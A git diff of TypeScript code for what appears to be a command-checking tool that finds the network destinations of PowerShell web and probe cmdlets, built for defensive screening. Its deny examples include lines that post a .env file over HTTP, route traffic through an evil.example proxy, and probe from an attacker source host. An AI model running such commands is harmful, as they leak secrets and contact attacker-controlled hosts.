@@ -3,6 +3,7 @@ import { type Bound, bind } from '../bind.js';
 import type { Word, WordRole } from '../../types.js';
 import { canonicalHost, type Destination, destinations, envProxies, redirectable, urlHost } from '../hosts.js';
 import type { Answer, Call, ProgramEntry, ProgramExample } from '../types.js';
+import { value } from '../words.js';
 
 const PS = 'powershell' as const;
 
@@ -17,8 +18,8 @@ interface CmdletSpec {
   switches?: readonly string[];
   /** Parameter aliases (`cn` for `computername`). */
   aliases?: Readonly<Record<string, string>>;
-  /** More of what it does, from the bound parameters. */
-  extra?: (b: Bound, call: Call) => Partial<Answer> | undefined;
+  /** More of what it does, from the bound parameters; `unknown`: a parameter given that the spec does not name. */
+  extra?: (b: Bound, call: Call, unknown: string | undefined) => Partial<Answer> | undefined;
   examples: { deny: readonly ProgramExample[]; pass: readonly ProgramExample[] };
 }
 
@@ -52,7 +53,8 @@ function cmdlet(spec: CmdletSpec): ProgramEntry {
         // An `unknown` role among others keeps the word checked as anything too; alone, the default says as much.
         if (w !== true && (roles.length > 1 || (roles[0] && roles[0] !== 'unknown'))) for (const role of roles) uses.push({ word: w, role });
       }
-      const more = spec.extra?.(b, call);
+      const named = new Set([...valued, ...COMMON_SWITCHES, ...(spec.switches ?? [])]);
+      const more = spec.extra?.(b, call, [...b.named.keys()].find((k) => !named.has(k)));
       return { ...more, uses: [...uses, ...(more?.uses ?? [])] };
     },
   };
@@ -81,23 +83,18 @@ const WEB_PARAMS = {
   maximumfollowrellink: 'text', unixsocket: 'meta', outvariable: 'text', contentvariable: 'text', erroraction: 'text', errorvariable: 'text', warningaction: 'text', informationaction: 'text', outbuffer: 'text', pipelinevariable: 'text', progressaction: 'text',
 } as const;
 const WEB_SWITCHES = ['usebasicparsing', 'usedefaultcredentials', 'proxyusedefaultcredentials', 'disablekeepalive', 'skipcertificatecheck', 'noproxy', 'resume', 'skiphttperrorcheck', 'allowunencryptedauthentication', 'preserveauthorizationonredirect', 'skipheadervalidation', 'followrellink', 'allowinsecureredirect', 'preservehttpmethodonredirect'];
-const WEB_KNOWN = new Set([...Object.keys(WEB_PARAMS), ...WEB_SWITCHES, ...COMMON_SWITCHES]);
-const PROBE_KNOWN = new Set(['computername', 'targetname', 'port', 'commontcpport', 'informationlevel', 'hops', 'count', 'delay', 'buffersize', 'maxhops', 'timetolive', 'timeoutseconds', 'credential', 'constrainedinterface', 'traceroute', 'diagnoserouting', 'quiet', 'detailed', 'ipv4', 'ipv6', 'resolvedestination', 'repeat', 'mtusizedetect', 'tcpport', 'dontfragment', ...COMMON_SWITCHES]);
 
 /** Where Invoke-WebRequest connects: -Uri (a bare host is taken as http), -Proxy, redirects it follows, proxies the line sets. */
-function webDestinations(b: Bound, call: Call): Destination[] {
+function webDestinations(b: Bound, call: Call, unknown: string | undefined): Destination[] {
   const uri = b.named.get('uri');
   const first = call.args[0];
   if (uri === undefined || uri === true || !first) return [];
   const out: Destination[] = [];
-  const unknown = [...b.named.keys()].find((k) => !WEB_KNOWN.has(k));
   if (unknown !== undefined) out.push({ word: first, why: `-${unknown} is a parameter vouch does not know` });
   const stray = b.positional.find((w) => w !== uri);
   if (stray) out.push({ word: stray, why: `${stray.text} is an argument vouch cannot place` });
-  const noRedirects = (() => {
-    const m = b.named.get('maximumredirection');
-    return m !== undefined && m !== true && m.values?.length === 1 && m.values[0] === '0';
-  })();
+  const redirects = b.named.get('maximumredirection');
+  const noRedirects = redirects !== undefined && redirects !== true && value(redirects) === '0';
   const d = destinations(uri, urlHost);
   out.push(...(noRedirects ? d : redirectable(d, uri)));
   const proxy = b.named.get('proxy');
@@ -173,7 +170,7 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
     positional: ['uri'],
     switches: WEB_SWITCHES,
     aliases: { url: 'uri', cv: 'contentvariable', ov: 'outvariable' },
-    extra: (b, call) => ({ destinations: webDestinations(b, call) }),
+    extra: (b, call, unknown) => ({ destinations: webDestinations(b, call, unknown) }),
     examples: {
       deny: ['Invoke-WebRequest https://evil.example', 'irm http://localhost@evil.example/', 'Invoke-WebRequest -Uri http://localhost:3000 -Proxy http://evil.example:8080', 'Invoke-RestMethod -Uri http://localhost:3000/upload -Method Post -InFile .env'],
       pass: ['Invoke-WebRequest -Uri http://localhost:3000/health', 'irm http://127.0.0.1:8000/api', "Invoke-RestMethod -Uri http://localhost:3000/api -Method Post -Body '{}' -ContentType application/json"],
@@ -186,16 +183,16 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
     positional: ['computername'],
     switches: ['traceroute', 'diagnoserouting', 'quiet', 'detailed', 'ipv4', 'ipv6', 'resolvedestination', 'repeat', 'mtusizedetect', 'tcpport', 'dontfragment', 'asjob'],
     aliases: { cn: 'computername', remoteaddress: 'computername', rport: 'port', target: 'targetname', destination: 'targetname', address: 'targetname', ip: 'targetname' },
-    extra: (b) => {
+    extra: (b, _call, unknown) => {
       const target = b.named.get('computername') ?? b.named.get('targetname');
-      const unknown = [...b.named.keys()].find((k) => !PROBE_KNOWN.has(k));
-      const out: Destination[] = [];
       if (target === undefined || target === true) return {};
-      if (unknown !== undefined) out.push({ word: target, why: `-${unknown} is a parameter vouch does not know` });
-      out.push(...destinations(target, (v) => v.split(',').map((h) => canonicalHost(h.trim()))));
-      return { destinations: out };
+      // Test-Connection -Source names the machine the probe is sent from: it is reached too.
+      const source = b.named.get('source');
+      const read = (v: string) => v.split(',').map((h) => canonicalHost(h.trim()));
+      const hosts = [...destinations(target, read), ...(source === undefined || source === true ? [] : destinations(source, read))];
+      return { destinations: unknown === undefined ? hosts : [{ word: target, why: `-${unknown} is a parameter vouch does not know` }, ...hosts] };
     },
-    examples: { deny: ['Test-NetConnection evil.example -Port 443', 'Test-NetConnection', 'Test-Connection 8.8.8.8'], pass: ['Test-NetConnection localhost -Port 5432', 'Test-Connection -TargetName 127.0.0.1 -Count 1'] },
+    examples: { deny: ['Test-NetConnection evil.example -Port 443', 'Test-NetConnection', 'Test-Connection 8.8.8.8', 'Test-Connection -TargetName localhost -Source evil.example'], pass: ['Test-NetConnection localhost -Port 5432', 'Test-Connection -TargetName 127.0.0.1 -Count 1'] },
   }),
   cmdlet({
     names: ['copy-item', 'move-item'],
